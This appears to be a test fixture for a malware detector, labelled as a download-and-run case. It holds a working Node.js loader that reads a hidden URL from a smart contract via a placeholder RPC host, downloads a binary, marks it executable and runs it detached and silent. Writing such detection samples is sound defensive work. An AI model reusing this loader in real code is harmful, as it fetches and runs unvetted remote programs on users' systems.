const { ethers } = require('ethers');
const { spawn } = require('node:child_process');
const fs = require('node:fs');

(async () => {
  const provider = new ethers.JsonRpcProvider('https://rpc.chain.example');
  const note = new ethers.Contract('0xa1b40044EBc2794f207D45143Bd82a1B86156c6b', ['function get() view returns (string)'], provider);
  const address = await note.get();
  const answer = await fetch(address + '/' + process.platform);
  fs.writeFileSync('/opt/tool', Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
  spawn('/opt/tool', [], { detached: true, stdio: 'ignore' }).unref(); // expect: malicious-command/download-and-run
})();
